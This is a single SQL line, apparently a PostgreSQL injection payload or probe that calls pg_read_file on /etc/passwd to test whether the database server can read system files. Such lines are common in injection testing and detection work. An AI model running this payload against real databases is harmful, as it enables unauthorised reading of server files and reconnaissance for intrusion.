SELECT 1 BETWEEN 0 AND length(pg_read_file('/etc/passwd'))
